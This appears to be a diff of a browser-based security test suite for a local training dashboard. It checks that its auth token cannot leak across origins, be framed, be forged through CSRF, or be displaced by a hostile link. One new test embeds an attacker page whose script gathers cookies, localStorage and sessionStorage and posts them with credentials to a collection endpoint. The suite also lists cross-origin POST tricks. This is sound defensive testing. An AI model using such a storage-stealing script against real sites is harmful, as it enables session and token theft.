@@ -1,12 +1,14 @@
 """Attacks from another website, in a real browser (headless Chromium): the victim has opened
-the dashboard (so the browser holds its cookie), then visits the attacker's page, served from
-another origin (another port of 127.0.0.1: same site, so even a SameSite=Strict cookie goes
-along). Plus the page itself: it works under its CSP, with no token in any URL it uses."""
+the dashboard (so the browser holds its token), then visits the attacker's page, served from
+another origin (another port of 127.0.0.1: the same site, to which a browser would send even a
+SameSite=Strict cookie of the dashboard). Plus the page itself: it works under its CSP, with
+no token in any URL it uses and none in a cookie."""
 
 from __future__ import annotations
 
 import json
 import os
+import re
 import time
 from typing import Any
 
@@ -32,7 +34,7 @@ def _steerable_run(path: Any) -> str:
 
 
 def _open_dashboard(page: Any, srv: Any) -> None:
-    """What the victim did earlier: open the printed URL (the browser now holds the cookie)."""
+    """What the victim did earlier: open the printed URL (the browser now holds the token)."""
     page.goto(f"{srv.url}/?token={srv.token}&run=r")
     page.wait_for_function(
         "() => window.hotcb && window.hotcb.debug().connected && window.hotcb.debug().run === 'r'"
@@ -82,18 +84,18 @@ def test_dashboard_cannot_be_framed_by_another_site(
     assert refusals, page.console  # Chromium says why it refused the frame
 
 
-def test_page_works_under_its_csp_with_the_token_only_in_a_cookie(
+def test_page_works_under_its_csp_with_the_token_only_in_its_storage(
     tmp_path: Any, live_server: Any, read_commands: Any, page: Any
 ) -> None:
     """The real page under the strict CSP: charts, controls and the WebSocket work, the
     browser reports no CSP violation, and after the first address no URL carries the token
-    (the address bar, every fetch, the WebSocket). The token is in an HttpOnly cookie that
-    the page's scripts cannot read."""
+    (the address bar, every fetch, the WebSocket). The page keeps it in its origin's storage
+    and presents it in a header; the browser holds no cookie of the dashboard's."""
     run = _steerable_run(tmp_path / "r")
     srv = live_server()
-    requests: list[str] = []
+    requests: list[Any] = []
     sockets: list[str] = []
-    page.on("request", lambda r: requests.append(r.url))
+    page.on("request", lambda r: requests.append(r))
     page.on("websocket", lambda ws: sockets.append(ws.url))
     _open_dashboard(page, srv)
     page.wait_for_function(
@@ -101,15 +103,18 @@ def test_page_works_under_its_csp_with_the_token_only_in_a_cookie(
         " return d.charts.length > 0 && d.charts.every(c => c.canvas) && d.controls.length > 0; }"
     )
     assert "token" not in page.url and page.url == f"{srv.url}/?run=r"
-    assert requests[0] == f"{srv.url}/?token={srv.token}&run=r"  # what the victim opened
-    later = requests[1:]
-    assert later and not [u for u in later if srv.token in u or "token=" in u]
+    urls = [r.url for r in requests]
+    assert urls[0] == f"{srv.url}/?token={srv.token}&run=r"  # what the victim opened
+    assert urls[1:] and not [u for u in urls[1:] if srv.token in u or "token=" in u]
     assert sockets and not [u for u in sockets if "token" in u]
-    assert page.evaluate("document.cookie") == ""  # HttpOnly: out of the scripts' reach
-    (cookie,) = [c for c in page.context.cookies() if c["name"].startswith("hotcb_token")]
-    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["path"] == "/"
+    api_calls = [r for r in requests if "/api/" in r.url]
+    assert api_calls and all(
+        r.headers.get("authorization") == f"Bearer {srv.token}" for r in api_calls
+    ), [(r.url, r.headers.get("authorization")) for r in api_calls]
+    assert page.context.cookies() == [] and page.evaluate("document.cookie") == ""
+    assert page.evaluate("localStorage.getItem('hotcb.token')") == srv.token
 
-    # steer with the cookie alone: Pause reaches the run; the tooltip and charts redraw
+    # steer: Pause reaches the run; the tooltip and charts redraw
     page.click("#btn-pause")
     deadline = time.monotonic() + 10
     while not read_commands(run) and time.monotonic() < deadline:
@@ -126,6 +131,39 @@ def test_page_works_under_its_csp_with_the_token_only_in_a_cookie(
     assert csp_messages == [] and errors == [], page.console
 
 
+def test_a_page_on_another_port_of_this_host_never_learns_the_token(
+    tmp_path: Any, live_server: Any, other_origin: Any, page: Any
+) -> None:
+    """Another local user's web server on another port of 127.0.0.1: browsers keep neither
+    cookies nor ``SameSite`` apart by port, so a token kept in a cookie went along with every
+    request that server's page made to its own server. The victim opened the dashboard, then
+    is led to that page, which sends itself everything the browser attaches or lets it read
+    (``credentials: "include"``, the cookies and the storage of its origin). None of it holds
+    the token."""
+    _steerable_run(tmp_path / "r")
+    srv = live_server()
+    _open_dashboard(page, srv)
+    evil = other_origin(
+        {
+            "/": """<!doctype html><html><body><img src="/pixel.gif"><script>
+            const loot = JSON.stringify({cookie: document.cookie, local: {...localStorage},
+                                         session: {...sessionStorage}});
+            Promise.all([
+              fetch("/collect", {credentials: "include"}),
+              fetch("/collect", {method: "POST", credentials: "include", body: loot}),
+            ]).then(() => { window.__done = true; });
+            </script></body></html>""",
+            "/collect": "thanks",
+        }
+    )
+    page.goto(evil + "/")
+    page.wait_for_function("() => window.__done === true")
+    paths = [path for _, path, _ in other_origin.requests]
+    assert paths.count("/collect") == 2 and "/pixel.gif" in paths, paths
+    leaked = [r for r in other_origin.requests if srv.token in json.dumps(r)]
+    assert leaked == [], leaked
+
+
 def test_other_site_cannot_post_commands(
     tmp_path: Any,
     live_server: Any,
@@ -137,10 +175,10 @@ def test_other_site_cannot_post_commands(
     """CSRF: every way a page on another origin can POST without the server's consent
     (``no-cors`` fetch as text/plain, as a form type, as a typeless Blob, ``sendBeacon``, a
     ``text/plain`` form shaped as JSON, a JSON fetch that needs a preflight), with the
-    victim's cookie in the browser. Nothing reaches the commands file."""
+    victim's token in the browser. Nothing reaches the commands file."""
     run = make_run(tmp_path / "r")
     srv = live_server()
-    page.goto(f"{srv.url}/?token={srv.token}&run=r")  # the victim's browser holds the cookie
+    page.goto(f"{srv.url}/?token={srv.token}&run=r")  # the victim's browser holds the token
     target = f"{srv.url}/api/runs/r/commands"
     body = json.dumps({"module": "control", "op": "pause"})
     script = f"""
@@ -179,3 +217,64 @@ def test_other_site_cannot_post_commands(
     time.sleep(1.0)  # sendBeacon is fire-and-forget
     assert posts.count("POST") >= 4  # the attempts did leave the browser
     assert read_commands(run) == []
+
+
+def test_api_reference_loads_nothing_from_elsewhere(live_server: Any, page: Any) -> None:
+    """``/docs`` in the browser: the API's reference shows every route, under the dashboard's
+    own CSP (no violation), and every request it makes stays on the dashboard's origin (it
+    loaded Swagger UI from a CDN, a script that could have read the page's token)."""
+    srv = live_server()
+    requests: list[str] = []
+    page.on("request", lambda r: requests.append(r.url))
+    page.goto(f"{srv.url}/docs")
+    page.get_by_role("link", name="POST /api/runs/{run_id}/commands").click()
+    assert page.url.endswith("#post-api-runs-run-id-commands")
+    assert (
+        page.locator("#post-api-runs-run-id-commands pre")
+        .inner_text()
+        .startswith('curl -X POST -H "Authorization: Bearer $HOTCB_TOKEN"')
+    )
+    assert page.evaluate("getComputedStyle(document.body).maxWidth") == "960px"  # its sheet
+    assert requests and [u for u in requests if not u.startswith(srv.url + "/")] == [], requests
+    assert page.evaluate("window.__violations") == []
+    assert [m for m in page.console if m.startswith(("error", "pageerror"))] == [], page.console
+
+
+def test_a_link_with_a_wrong_token_does_not_lock_the_dashboard_out(
+    tmp_path: Any, live_server: Any, other_origin: Any, page: Any
+) -> None:
+    """Any site can send the browser to ``…/#token=junk``: the page tries that token, and on
+    the server's 401 goes back to the one it holds, which stays stored for every tab."""
+    _steerable_run(tmp_path / "r")
+    srv = live_server()
+    _open_dashboard(page, srv)
+    evil = other_origin(
+        {"/": f"<script>location = {json.dumps(srv.url + '/?run=r#token=junk')};</script>"}
+    )
+    page.goto(evil + "/")
+    page.wait_for_url(f"{srv.url}/?run=r")
+    page.wait_for_function(
+        "() => window.hotcb && window.hotcb.debug().connected && window.hotcb.debug().run === 'r'"
+        " && !window.hotcb.debug().authFailed"
+    )
+    assert page.evaluate("localStorage.getItem('hotcb.token')") == srv.token
+    assert page.locator("#conn").inner_text() == "live"
+
+
+def test_a_chosen_token_with_url_characters_opens_the_page(
+    tmp_path: Any, serve: Any, page: Any
+) -> None:
+    """A token of one's own with ``+ / = & # %`` in it (``openssl rand -base64``): the printed
+    URL carries it encoded, and opening it gets the page in with exactly that token."""
+    _steerable_run(tmp_path / "runs" / "r")
+    token = "Xy+Z/w==&a#b%c d"
+    srv = serve(tmp_path / "runs", env={"HOTCB_TOKEN": token})
+    (printed,) = re.findall(r"hotcb dashboard for .*: (http://\S+)", srv.stdout())
+    assert printed == f"{srv.url}/?token=Xy%2BZ%2Fw%3D%3D%26a%23b%25c+d"
+    page.goto(printed + "&run=r")
+    page.wait_for_function(
+        "() => window.hotcb && window.hotcb.debug().connected && window.hotcb.debug().run === 'r'"
+        " && window.hotcb.debug().charts.length > 0"
+    )
+    assert page.evaluate("localStorage.getItem('hotcb.token')") == token
+    assert page.url == f"{srv.url}/?run=r"
